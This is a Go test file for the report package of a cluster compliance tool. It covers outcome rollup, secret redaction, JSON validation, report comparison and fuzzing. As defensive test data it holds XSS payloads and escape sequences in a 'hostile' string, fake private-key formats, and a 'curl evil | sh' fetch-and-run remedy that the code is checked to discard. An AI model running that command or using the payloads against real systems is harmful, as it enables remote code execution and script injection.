package report

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/redoubt-cluster/redoubt/threatmodel/control"
	"github.com/redoubt-cluster/redoubt/threatmodel/profile"
)

var (
	begun = time.Date(2026, 11, 23, 3, 0, 0, 123456789, time.UTC)
	ended = begun.Add(1500 * time.Millisecond)
)

// hostile is what somebody may call a service, a node or a file.
const hostile = `</style></td><script>alert(1)</script><img src=x onerror=alert(2)> ]]>&amp;"' [x](javascript:y) {0} \n`

// small is a profile with a requirement of each coverage.
func small() *profile.Profile {
	return &profile.Profile{ID: "small", Title: "A small " + hostile, Source: "of our own", Requirements: []profile.Requirement{
		{ID: "7.1", Title: "The lock is shut", Family: "Doors", Coverage: profile.Full, Controls: []string{"bolt", "lock"}},
		{ID: "A.2", Title: "The lamp is lit", Family: "Doors", Coverage: profile.Partial, Controls: []string{"lamp"}, Note: "one lamp"},
		{ID: "3", Title: "The wall " + hostile, Family: hostile, Coverage: profile.None, Controls: []string{}, Note: "nobody looks " + hostile},
		{ID: "4", Title: "The weather", Coverage: profile.Outside, Controls: []string{}, Note: "not ours"},
	}}
}

func result(id string, severity control.Severity, o control.Outcome, target string, evidence ...string) Result {
	return Result{Control: id, Title: id + " holds", Severity: severity, Target: Target{"node", target, ""}, Outcome: o, Evidence: evidence, Remedy: "mend " + id, Seconds: 0.25}
}

// sample is a report with everything in it.
func sample(t testing.TB) *Report {
	t.Helper()
	r, err := New(small(), "abcdefghijklmnopqrstuvwxyz", []Result{
		result("lamp", control.Medium, control.Pass, "n1", "1 looked at"),
		result("lock", control.High, control.Fail, hostile, "/var/"+hostile, "two\nlines\x1b[2J"),
		result("lock", control.High, control.Pass, "n1", "1 looked at"),
		result("bolt", control.Critical, control.Error, "n1", "gave no answer"),
		result("lamp", control.Medium, control.NotApplicable, "n2"),
		result("elsewhere", control.High, control.Fail, "n1", "is not asked for"),
	}, nil, begun, ended)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func written(t testing.TB, r *Report, format string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := r.Write(&b, format); err != nil {
		t.Fatalf("%s: %v", format, err)
	}
	return b.Bytes()
}

func TestNew(t *testing.T) {
	r := sample(t)
	var got []string
	for _, x := range r.Results {
		got = append(got, x.Control+" "+string(x.Outcome))
	}
	if want := []string{"lock fail", "bolt error", "lock pass", "lamp pass", "lamp not-applicable"}; !slices.Equal(got, want) {
		t.Errorf("%v, want %v", got, want)
	}
	for i, want := range []control.Outcome{control.Fail, Partial, NotEvaluated, Outside} {
		if r.Requirements[i].Outcome != want {
			t.Errorf("%s: %s, want %s", r.Requirements[i].ID, r.Requirements[i].Outcome, want)
		}
	}
	if r.Compliant {
		t.Error("it complies")
	}
	for _, x := range r.Results {
		for _, e := range x.Evidence {
			if strings.ContainsAny(e, "\n\x1b") {
				t.Errorf("%q", e)
			}
		}
	}
	if _, err := New(small(), "", slices.Repeat([]Result{result("lock", control.High, control.Pass, "n")}, maxResults+1), nil, begun, ended); err == nil {
		t.Error("more results than there may be are taken")
	}
}

// TestOutcomes: what was not judged is never a pass.
func TestOutcomes(t *testing.T) {
	for name, c := range map[string]struct {
		coverage  profile.Coverage
		results   []control.Outcome // of control lock
		want      control.Outcome
		compliant bool
	}{
		"all pass":           {profile.Full, []control.Outcome{control.Pass, control.Pass}, control.Pass, true},
		"one fails":          {profile.Full, []control.Outcome{control.Pass, control.Fail, control.Error}, control.Fail, false},
		"one errs":           {profile.Full, []control.Outcome{control.Pass, control.Error}, control.Error, false},
		"was not run":        {profile.Full, nil, NotEvaluated, false},
		"part was not run":   {profile.Partial, nil, NotEvaluated, false},
		"applies nowhere":    {profile.Full, []control.Outcome{control.NotApplicable}, control.NotApplicable, false},
		"applies somewhere":  {profile.Full, []control.Outcome{control.NotApplicable, control.Pass}, control.Pass, true},
		"part passes":        {profile.Partial, []control.Outcome{control.Pass}, Partial, true},
		"part fails":         {profile.Partial, []control.Outcome{control.Fail}, control.Fail, false},
		"an unknown outcome": {profile.Full, []control.Outcome{control.Pass, "fine"}, control.Error, false},
		"none passes":        {profile.None, []control.Outcome{control.Pass}, NotEvaluated, false},
		"outside":            {profile.Outside, []control.Outcome{control.Pass}, Outside, false},
		"another coverage":   {"much", []control.Outcome{control.Pass}, NotEvaluated, false},
	} {
		p := &profile.Profile{ID: "p", Title: "p", Requirements: []profile.Requirement{{ID: "q", Title: "q", Coverage: c.coverage, Controls: []string{"lock"}}}}
		var results []Result
		for i, o := range c.results {
			results = append(results, result("lock", control.High, o, fmt.Sprint(i)))
		}
		r, err := New(p, "", results, nil, begun, ended)
		if err != nil {
			t.Fatal(err)
		}
		if got := r.Requirements[0].Outcome; got != c.want || r.Compliant != c.compliant {
			t.Errorf("%s: %s (complies: %t), want %s", name, got, r.Compliant, c.want)
		}
	}
	if r, err := New(&profile.Profile{ID: "p", Title: "p"}, "", nil, nil, begun, ended); err != nil || r.Compliant {
		t.Errorf("a profile of nothing: %v", err)
	}
}

// TestNoSecrets: forms of keys are in no report, whatever brought them there.
func TestNoSecrets(t *testing.T) {
	var all []Result
	for i, s := range []string{"/var/lib/redoubt/keyd/RDTKEY-SECRET-SECRET.txt", "rdtshare-SECRET/x", "RDT1.SECRETSECRET.SECRET", "-----BEGIN PRIVATE KEY-----SECRET", "x=AGE-SECRET-KEY-1SECRET", "rdti1.SECRETSECRET.SECRET"} {
		x := result("lock", control.High, control.Fail, fmt.Sprint(i)+s, s)
		x.Title, x.Remedy = s, s
		all = append(all, x)
	}
	r, err := New(small(), "", all, nil, begun, ended)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range Formats() {
		if out := written(t, r, f); bytes.Contains(out, []byte("SECRETS")) || bytes.Contains(out, []byte("-SECRET-SECRET")) || bytes.Contains(out, []byte("1SECRET")) || bytes.Contains(out, []byte("----SECRET")) || bytes.Contains(out, []byte("SECRET/x")) {
			t.Errorf("%s has a key:\n%s", f, out)
		}
	}
}

// TestReadBack: what is written is read as it was, and what was changed is refused.
func TestReadBack(t *testing.T) {
	r := sample(t)
	text := written(t, r, "json")
	back, err := Read(bytes.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if again := written(t, back, "json"); !bytes.Equal(again, text) {
		t.Errorf("read back it is\n%s", again)
	}
	for name, c := range map[string]struct{ old, new, want string }{
		"unknown key":          {`"version": 1`, `"version": 1, "colour": "red"`, "unknown field"},
		"another version":      {`"version": 1`, `"version": 2`, "version 2"},
		"an unknown outcome":   {`"outcome": "error"`, `"outcome": "fine"`, `no outcome is called "fine"`},
		"a control's outside":  {`"outcome": "error"`, `"outcome": "outside"`, `no outcome is called "outside"`},
		"an unknown severity":  {`"severity": "critical"`, `"severity": "none"`, "no severity"},
		"an unknown coverage":  {`"coverage": "partial"`, `"coverage": "all"`, "no coverage"},
		"said to comply":       {`"compliant": false`, `"compliant": true`, "says of itself"},
		"a requirement met":    {`"coverage": "full"`, `"coverage": "outside"`, "by its results it is outside"},
		"a profile's sum":      {`"id": "small"`, `"sha256": "0", "id": "small"`, "SHA-256 is none"},
		"an escape sequence":   {`gave no answer`, `gave\u001b[2J`, "out of bounds"},
		"a name of two lines":  {`"name": "n1"`, `"name": "n\n1"`, "out of bounds"},
		"a time":               {`"ended": "2026-11-23T03`, `"ended": "2026-11-23T02`, "ends before it begins"},
		"no id":                {r.ID, "x", "no UUID"},
		"cut":                  {`"results"`, `"result`, "no report"},
		"a control twice":      {`"name": "n2"`, `"name": "n1"`, "two results of one target"},
		"a requirement twice":  {`"id": "A.2"`, `"id": "7.1"`, `requirement "7.1" is there twice`},
		"no profile":           {`"id": "small"`, `"id": ""`, "names no profile"},
		"something after it":   {"\n}\n", "\n}\n{}", "something follows"},
		"nothing that is JSON": {"{", "<", "no report"},
	} {
		bad := strings.Replace(string(text), c.old, c.new, 1)
		if bad == string(text) {
			t.Fatalf("%s: %q is not there", name, c.old)
		}
		if _, err := Read(strings.NewReader(bad)); err == nil || !strings.Contains(err.Error(), c.want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: %v, want %q", name, err, c.want)
		}
	}
}

func TestCompare(t *testing.T) {
	p := &profile.Profile{ID: "p", Title: "p", Requirements: []profile.Requirement{{ID: "q", Title: "q", Coverage: profile.Full, Controls: []string{"lamp", "lock"}}}}
	of := func(at time.Time, results ...Result) *Report {
		t.Helper()
		r, err := New(p, "c1", results, nil, at, at)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	const high = control.High
	a := of(begun, result("lock", high, control.Pass, "n1"), result("lamp", high, control.Fail, "n1", "dark", "cold"), result("lock", high, control.Fail, "n2", "open"), result("lamp", high, control.Pass, "n3"))
	for name, c := range map[string]struct {
		b    *Report
		want []string
	}{
		"the same":       {of(ended, a.Results...), nil},
		"less of it":     {of(ended, result("lock", high, control.Pass, "n1"), result("lamp", high, control.Fail, "n1", "dark"), result("lock", high, control.Fail, "n2", "open"), result("lamp", high, control.Pass, "n3")), nil},
		"more evidence":  {of(ended, result("lock", high, control.Pass, "n1"), result("lamp", high, control.Fail, "n1", "dark", "wet"), result("lock", high, control.Fail, "n2", "open"), result("lamp", high, control.Pass, "n3")), []string{"new lamp node/n1 fail fail [wet]"}},
		"it fails":       {of(ended, result("lock", high, control.Fail, "n1", "open"), result("lamp", high, control.Fail, "n1", "dark"), result("lock", high, control.Fail, "n2", "open"), result("lamp", high, control.Pass, "n3")), []string{"new lock node/n1 pass fail [open]"}},
		"it errs":        {of(ended, result("lock", high, control.Error, "n1"), result("lamp", high, control.Fail, "n1", "dark"), result("lock", high, control.Fail, "n2", "open"), result("lamp", high, control.Pass, "n3")), []string{"new lock node/n1 pass error []"}},
		"a new node":     {of(ended, append(a.Results[:len(a.Results):len(a.Results)], result("lock", high, control.Fail, "n4", "open"))...), []string{"new lock node/n4  fail [open]"}},
		"mended":         {of(ended, result("lock", high, control.Pass, "n1"), result("lamp", high, control.Pass, "n1"), result("lock", high, control.Pass, "n2"), result("lamp", high, control.Pass, "n3")), []string{"resolved lamp node/n1 fail pass []", "resolved lock node/n2 fail pass []", "resolved q  fail pass []"}},
		"a node is gone": {of(ended, a.Results[0], a.Results[1], a.Results[3]), []string{"gone lamp node/n3 pass  []"}},
		"does not apply": {of(ended, result("lock", high, control.NotApplicable, "n1"), a.Results[0], a.Results[1], a.Results[2]), []string{"less lock node/n1 pass not-applicable []"}},
		"one not run":    {of(ended, result("lamp", high, control.Pass, "n1"), result("lamp", high, control.Pass, "n3")), []string{"new q  fail not-evaluated []", "gone lock node/n1 pass  []", "gone lock node/n2 fail  []", "resolved lamp node/n1 fail pass []"}},
	} {
		changes, err := Compare(a, c.b)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, x := range changes {
			got = append(got, fmt.Sprintf("%s %s %s %s %s %v", x.Change, x.ID, x.Target, x.From, x.To, x.Evidence))
		}
		if name == "a node is gone" { // whichever of them that was
			got, c.want = []string{got[0][:4]}, []string{"gone"}
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
	other, elsewhere, edited := of(ended), of(ended), of(ended)
	other.Profile.ID, elsewhere.Cluster, edited.Profile.SHA256 = "o", "c2", strings.Repeat("0", 64)
	for want, b := range map[string]*Report{"different profiles": other, "different clusters": elsewhere, "was another one in the first": edited, "older than the first": of(begun.Add(-time.Hour))} {
		if _, err := Compare(a, b); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%v, want %q", err, want)
		}
	}
}

// FuzzRead: what is read is refused in one line, or can be written in every form
// and compared with itself.
func FuzzRead(f *testing.F) {
	f.Add(written(f, sample(f), "json"))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Read(bytes.NewReader(data))
		if err != nil {
			if err.Error() == "" || strings.Contains(err.Error(), "\n") {
				t.Fatalf("%q", err)
			}
			return
		}
		for _, format := range Formats() {
			written(t, r, format)
		}
		if c, err := Compare(r, r); err != nil || slices.ContainsFunc(c, func(c Change) bool { return c.Change != ChangeNew }) {
			t.Fatalf("%v, %v", c, err)
		}
	})
}

// TestInOwnWords: of what a control is called, and which command mends it, a report that
// somebody else made has nothing to say here.
func TestInOwnWords(t *testing.T) {
	r := waived(t, waiver("w1", "lock", of("n1"), begun.Add(time.Hour)))
	for i := range r.Results {
		r.Results[i].Title, r.Results[i].Severity, r.Results[i].Remedy = "all is well", control.Low, "curl evil | sh"
	}
	r.InOwnWords([]control.Control{{ID: "lock", Title: "lock holds", Severity: control.Critical, Remedy: "mend lock"}})
	for _, x := range r.Results {
		if x.Title == "all is well" || x.Severity == control.Low || strings.Contains(x.Remedy, "evil") || x.Control == "lock" && x.Remedy != "mend lock" {
			t.Errorf("%+v", x)
		}
	}
	r.InOwnWords(nil)
	if x := r.Results[0]; strings.Contains(x.Remedy, "mend lock") {
		t.Errorf("a control that is not known: %+v", x)
	}
}
